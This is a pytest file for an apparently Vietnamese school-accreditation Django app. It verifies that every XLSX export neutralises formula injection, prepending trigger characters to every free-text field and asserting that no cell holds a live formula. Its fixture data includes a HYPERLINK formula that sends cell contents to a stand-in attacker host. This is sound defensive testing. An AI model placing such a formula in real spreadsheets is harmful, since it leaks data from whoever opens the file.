"""No spreadsheet the system writes runs a formula (issue #18 §4, formula injection).

Every XLSX export, downloaded the way people download it: the evidence catalogue (2018 and TT57), the improvement
plan (2018 and TT57), the authority's annual plan, the emulation score sheet, a training's participant list, and the
three import templates. The data is made through the services — evidence also through the catalogue import, since
text that came in through an import goes out again — and then every free-text field of every record (each CharField
and TextField without choices, codes and keys aside) is given a hostile start: =, +, -, @, a tab or a carriage return.
The project has no CSV export (checked below).

Before: four exports wrote such text as a live formula (openpyxl turns a text starting with "=" into one).
"""

import io
from datetime import date
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import reverse
from openpyxl import load_workbook

from kiemdinh.core.tests import crafted_xlsx as crafted
from kiemdinh.documents.tests.test_annual_plan import fill, make_plan
from kiemdinh.documents.tests.test_improvement_plan import seed_plan
from kiemdinh.emulation import services as emulation
from kiemdinh.evidence import imports as evidence_imports
from kiemdinh.evidence import services as evidence
from kiemdinh.frameworks.models import Criterion
from kiemdinh.improvement import services as improvement
from kiemdinh.oversight.services.participants import participants_add
from kiemdinh.oversight.services.trainings import training_create
from kiemdinh.workflow.services import cycle_open

pytestmark = pytest.mark.usefixtures("frameworks_loaded")

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE_APPS = {"accounts", "units", "evidence", "improvement", "planning", "emulation", "oversight", "selfassessment"}
# Identifiers and what the code looks things up by: left alone, the rest of each record is hostile.
KEYS = {"code", "path", "school_year", "username", "password", "email", "search_text", "sha256", "content_type"}


def make_everything_hostile(prefix: str) -> int:
    """Prefix every free-text field of every record of the apps above; returns how many fields were changed."""
    changed = 0
    for model in apps.get_models():
        if model._meta.app_label not in HOSTILE_APPS or model._meta.proxy or not model._meta.managed:
            continue
        updates = {}
        for field in model._meta.concrete_fields:
            if (
                isinstance(field, models.CharField | models.TextField)
                and not field.choices
                and not field.primary_key
                and field.name not in KEYS
            ):
                value = Concat(Value(prefix), F(field.name), output_field=field)
                updates[field.name] = Left(value, field.max_length) if field.max_length else value
        if updates and model.objects.exists():
            model.objects.update(**updates)
            changed += len(updates)
    return changed


def catalogue_upload(rows) -> crafted.SimpleUploadedFile:
    return crafted.upload(crafted.xlsx([crafted.rows_xml(rows)]), "danh-muc.xlsx")


def build_data(world):
    """Something in every export, made the ordinary way."""
    principal, officer = world.principal_a, world.officer_district
    cycle = cycle_open(actor=principal, school=world.school_a, school_year="2025-2026")  # TT17/2018
    batch = evidence_imports.evidence_import_prepare(
        actor=principal,
        cycle=cycle,
        uploaded_file=catalogue_upload(
            [
                ["TT", "Mã minh chứng", "Tên minh chứng", "Số, ngày ban hành", "Nơi ban hành", "Ghi chú"],
                ["Tiêu chí 1.1: Phương hướng, chiến lược"],
                [1, "[H1-1.1-01]", '=HYPERLINK("http://attacker.example/?"&A1,"Bấm")', "@SUM(1,2)", "+1+1", "-1"],
            ]
        ),
    )
    evidence_imports.evidence_import_commit(actor=principal, batch=batch)
    one_one = Criterion.objects.get(version=cycle.framework, code="1.2")
    evidence.evidence_create(
        actor=principal,
        cycle=cycle,
        criterion=one_one,
        name="Quyết định thành lập hội đồng",
        issue_ref="Số 12/QĐ",
        issued_by="UBND xã",
        note="Bản chính",
    )
    seed_plan(cycle, principal)

    cycle57 = cycle_open(actor=principal, school=world.school_a, school_year="2026-2027")  # TT57/2026
    batch = evidence_imports.evidence_import_prepare(
        actor=principal,
        cycle=cycle57,
        uploaded_file=catalogue_upload(
            [
                [
                    "TT",
                    "Mã minh chứng",
                    "Tên minh chứng",
                    "Định dạng, vị trí lưu trữ hoặc đường dẫn điện tử",
                    "Ghi chú",
                ],
                ["Tiêu chí 1.3: Tổ chức bộ máy"],
                [1, "MC.1.3.01", "Quyết định bổ nhiệm", "Tủ hồ sơ số 2", "Bản sao"],
            ]
        ),
    )
    evidence_imports.evidence_import_commit(actor=principal, batch=batch)
    plan57 = improvement.plan_create(actor=principal, cycle=cycle57)
    issue = improvement.issue_create(
        actor=principal,
        plan=plan57,
        criterion=Criterion.objects.get(version=cycle57.framework, code="1.3"),
        current_state="Dữ liệu học sinh cập nhật chậm",
        limitation="Chưa rà soát dữ liệu định kỳ",
        cause="Chưa phân công người phụ trách",
    )
    improvement.line_create(
        actor=principal,
        plan=plan57,
        issue=issue,
        content="Rà soát dữ liệu quản lý",
        target="Dữ liệu cập nhật đúng hạn",
        tasks=["Phân công người phụ trách"],
        result_indicator="100% dữ liệu cập nhật đúng hạn",
        expected_evidence="Biên bản rà soát dữ liệu",
        lead="Phó hiệu trưởng",
        collaborators="Văn thư",
        starts_on=date(2026, 10, 1),
        due_on=date(2027, 5, 1),
        funding="Không",
        support="Phần mềm quản lý",
    )

    plan = fill(world, make_plan(world))

    scheme = emulation.scheme_create(
        actor=officer, unit=world.district, school_year="2025-2026", title="Thi đua công tác KĐCLGD", max_score="10"
    )
    emulation.rule_create(actor=officer, scheme=scheme, kind="sa_accepted", label="Báo cáo được chấp nhận", points="5")
    emulation.score_adjust(actor=officer, scheme=scheme, school=world.school_a, points="1", reason="Có sáng kiến")

    training = training_create(
        actor=officer,
        unit=world.district,
        title="Tập huấn tự đánh giá",
        starts_on=date(2025, 2, 20),
        location="Hội trường",
    )
    participants_add(actor=officer, training=training, text="Nguyễn Văn An – Hiệu trưởng – SA")
    return cycle, cycle57, plan, scheme, training


def exports(world, cycle, cycle57, plan, scheme, training) -> list[tuple[str, object, str, bool]]:
    """(name, who downloads it, address, whether it carries data of the records) for every XLSX export."""
    principal, officer = world.principal_a, world.officer_district

    def document(c, kind):
        return reverse("documents:download", kwargs={"cycle_id": c.pk, "kind": kind, "fmt": "xlsx"})

    return [
        ("evidence catalogue 2018", principal, document(cycle, "evidence-catalogue"), True),
        ("evidence catalogue TT57", principal, document(cycle57, "evidence-catalogue"), True),
        ("improvement plan 2018", principal, document(cycle, "improvement-plan"), True),
        ("improvement plan TT57", principal, document(cycle57, "improvement-plan"), True),
        ("annual plan", officer, reverse("documents:annual_plan", kwargs={"plan_id": plan.pk, "fmt": "xlsx"}), True),
        ("emulation score sheet", officer, reverse("documents:score_sheet_xlsx", args=[scheme.pk]), True),
        ("training participants", officer, reverse("oversight:training_export", args=[training.pk]), True),
        ("unit import template", officer, reverse("units:import_template", args=["don-vi"]), False),
        ("school import template", officer, reverse("units:import_template", args=["truong"]), False),
        ("evidence import template", principal, reverse("evidence:import_template", args=[cycle.pk]), False),
    ]


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_no_export_writes_a_formula_whatever_text_it_carries(client, world, trigger):
    made = build_data(world)
    assert make_everything_hostile(f"{trigger}1+") > 60  # the test reaches every free-text field there is

    for name, user, url, carries_data in exports(world, *made):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200, name
        book = load_workbook(io.BytesIO(b"".join(response)))
        hostile = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(tuple(TRIGGERS)):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)
                        hostile.append(cell.value)
        if carries_data:
            # The hostile text did reach the sheet (the test is not looking at an empty export).
            assert any(v.startswith(trigger) for v in hostile), (name, hostile[:5])


def test_the_project_writes_no_csv_export():
    """If a CSV export is added, it must prefix formula-like text with an apostrophe (OWASP) and join the test above."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "/tests/" not in str(p) and "csv.writer" in p.read_text(encoding="utf-8")
    ]
    assert writers == []
